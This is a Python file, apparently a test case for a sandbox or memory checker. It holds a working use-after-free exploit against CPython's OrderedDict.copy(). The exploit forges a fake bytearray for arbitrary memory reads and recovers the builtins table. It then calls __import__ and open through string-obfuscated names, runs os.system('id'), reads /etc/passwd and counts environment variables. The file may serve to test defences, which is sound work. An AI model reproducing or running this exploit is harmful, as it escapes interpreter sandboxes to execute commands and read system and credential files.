# expect: reject memory
# line: 24
# why: a parameterised base collections.OrderedDict[str, int] is OrderedDict: its copy() calls the subclass's __getitem__ while it walks nodes the call may free (gh-142734)
import array
import collections


def w8(v):
    return v.to_bytes(8, "little")


K0 = 123456789
got = []
state = [0]
held = []
idx = list(range(400))
victim = None
T = None


class OD(collections.OrderedDict[str, int]):
    def __getitem__(self, key):
        if state[0] == 1:
            state[0] = 2
            victim.clear()
            keep = [None] * 400
            for j in idx:
                keep[j] = array.array("Q", T)
            held.append(keep)
            return 0
        if state[0] == 2:
            state[0] = 3
            got.append(key)
            return 0
        return super().__getitem__(key)


def forge(addr):
    global victim, T
    node = b"".join([w8(x) for x in [addr, 0, 0, 0]])
    held.append(node)
    T = (id(K0), 0, id(node) + 32, 0)
    victim = OD([(i, i) for i in range(8)])
    state[0] = 1
    try:
        victim.copy()
    except TypeError:
        pass
    state[0] = 0
    return got[-1]


def rd(a):
    return int.from_bytes(mem[a:a + 8], "little")


fake = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = forge(id(fake) + 32)
print("forged:", type(mem).__name__, len(mem) > 1000)
table = forge(rd(rd(id(len) + 24) + 16))
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["op" + "en"]("/etc/passwd").read()[:120])
print(len(osm.environ), "environment variables")
